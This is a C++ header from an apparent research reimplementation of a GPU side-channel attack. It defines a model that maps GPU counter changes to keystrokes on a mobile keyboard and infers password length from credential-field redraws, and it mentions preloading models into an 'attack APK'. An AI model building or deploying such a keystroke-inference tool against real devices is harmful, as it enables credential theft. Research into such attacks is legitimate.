/**
 * @file
 * Per-configuration signature models (the "classification models" of
 * paper §3.2/§5.1).
 *
 * A model maps each label — one per unique typable character plus one
 * per keyboard page (page-switch redraws have signatures too) — to the
 * centroid of its popup-show counter deltas, together with the
 * rejection threshold C_th, per-dimension normalisation and the echo-
 * band cutoff used by the input-correction tracker. Models serialise
 * to a compact binary (~3.6 kB, §7.6) so thousands can be preloaded in
 * the attack APK.
 */

#ifndef GPUSC_ATTACK_SIGNATURE_H
#define GPUSC_ATTACK_SIGNATURE_H

#include <array>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "gpu/counters.h"
#include "simd/panel.h"

namespace gpusc::attack {

/** Classification label: single-char string, or "PAGE:<name>". */
using Label = std::string;

/** Make the label for a page-switch redraw. */
Label pageLabel(int page);
/** True if @p label is a page-switch label. */
bool isPageLabel(const Label &label);

/** One trained class. */
struct LabelSignature
{
    Label label;
    gpu::CounterVec centroid{};
};

/** A trained classification model for one device configuration. */
class SignatureModel
{
  public:
    /** Result of classifying one counter change. */
    struct Match
    {
        const LabelSignature *sig = nullptr; ///< null if no signatures
        double distance = 0.0;               ///< normalised distance
        bool
        accepted(double threshold) const
        {
            return sig && distance <= threshold;
        }
    };

    /** Nearest centroid in normalised space. */
    Match classify(const gpu::CounterVec &delta) const;

    /**
     * Nearest centroid allowing for a merged cursor-blink frame: also
     * tries delta minus each trained blink variant and returns the
     * best match. This is how the online phase tolerates a popup
     * render that shared its sampling window with a blink redraw.
     *
     * When @p effectiveOut is non-null it receives the variant that
     * actually matched — @p delta itself, or delta minus the winning
     * blink vector — i.e. the popup render's own contribution. Online
     * template adaptation (stream::TemplateUpdater) blends *this*
     * vector back into the centroid, never the blink-contaminated
     * raw delta.
     */
    Match classifyRobust(const gpu::CounterVec &delta,
                         gpu::CounterVec *effectiveOut) const;
    Match classifyRobust(const gpu::CounterVec &delta) const
    {
        return classifyRobust(delta, nullptr);
    }

    /** Trained cursor-blink redraw variants (per tile alignment). */
    const std::vector<gpu::CounterVec> &blinkVariants() const
    {
        return blinkVariants_;
    }
    void setBlinkVariants(std::vector<gpu::CounterVec> v)
    {
        blinkVariants_ = std::move(v);
    }

    /** Accept iff distance <= threshold (C_th). */
    std::optional<Label> accept(const gpu::CounterVec &delta) const;

    const std::vector<LabelSignature> &signatures() const
    {
        return sigs_;
    }
    double threshold() const { return threshold_; }
    /** L1 pre-filter: changes above this are not field echoes. */
    double echoCutoff() const { return echoCutoff_; }

    /**
     * The credential field's *echo line* (§5.3): a field redraw with k
     * committed characters produces counter deltas echoBase + k *
     * echoInc. Projecting an observed change onto this line yields the
     * current text length; residuals beyond echoTol mean the change is
     * not a field redraw at all (popup dismissal, status bar, ...).
     */
    const gpu::CounterVec &echoBase() const { return echoBase_; }
    const gpu::CounterVec &echoInc() const { return echoInc_; }
    double echoTol() const { return echoTol_; }
    bool hasEchoModel() const;

    /**
     * Decode a change as a field redraw.
     * @return the text length, or nullopt if off the echo line.
     */
    std::optional<int> decodeEchoLength(
        const gpu::CounterVec &delta,
        double *residualOut = nullptr) const;
    const std::string &modelKey() const { return modelKey_; }
    const std::array<double, gpu::kNumSelectedCounters> &scale() const
    {
        return scale_;
    }

    /** Smallest distance between two distinct centroids
     *  (separability diagnostic). */
    double minInterClassDistance() const;

    // Construction (used by the trainer and deserialisation).
    void setModelKey(std::string key) { modelKey_ = std::move(key); }
    void setThreshold(double t) { threshold_ = t; }
    void setEchoCutoff(double c) { echoCutoff_ = c; }
    void
    setEchoLine(const gpu::CounterVec &base, const gpu::CounterVec &inc,
                double tol)
    {
        echoBase_ = base;
        echoInc_ = inc;
        echoTol_ = tol;
    }
    void setScale(const std::array<double, gpu::kNumSelectedCounters> &s)
    {
        scale_ = s;
    }
    void addSignature(LabelSignature sig);

    /**
     * Online template adaptation (the enrollment/match/update loop):
     * fold an observed high-confidence delta back into @p label's
     * centroid with an exponential blend,
     *
     *   centroid' = round((1 - blend) * centroid + blend * delta)
     *
     * per dimension (llround, so the update is bit-deterministic and
     * order-deterministic for a given observation sequence). Keeps
     * the centroid within the serialisable 32-bit range. @return
     * false (and changes nothing) if the label is not trained or
     * @p blend is outside (0, 1].
     */
    bool updateSignature(const Label &label,
                         const gpu::CounterVec &delta, double blend);

    /** Serialised size in bytes (the Fig.-26-adjacent 3.59 kB claim). */
    std::size_t byteSize() const;
    std::vector<std::uint8_t> serialize() const;
    /** Aborts on malformed input (trusted, in-process blobs only). */
    static SignatureModel deserialize(const std::uint8_t *data,
                                      std::size_t size);
    /** Bounds-checked parse of an untrusted blob: nullopt on bad
     *  magic, truncation or trailing garbage — never UB or abort. */
    static std::optional<SignatureModel>
    tryDeserialize(const std::uint8_t *data, std::size_t size);

    bool operator==(const SignatureModel &other) const;

  private:
    /**
     * Repack the SIMD centroid panel. Called eagerly on every
     * signature mutation (never lazily from classify(): classify is
     * const and runs concurrently from replay/stream workers, so the
     * panel must be immutable while classification is in flight).
     */
    void rebuildPanel();

    std::string modelKey_;
    std::vector<LabelSignature> sigs_;
    /** sigs_ centroids as doubles, transposed for the argmin kernel.
     *  Derived state — never serialised, never compared. */
    simd::Panel panel_;
    double threshold_ = 0.0;
    double echoCutoff_ = 0.0;
    gpu::CounterVec echoBase_{};
    gpu::CounterVec echoInc_{};
    double echoTol_ = 0.0;
    std::vector<gpu::CounterVec> blinkVariants_;
    std::array<double, gpu::kNumSelectedCounters> scale_{};
};

} // namespace gpusc::attack

#endif // GPUSC_ATTACK_SIGNATURE_H
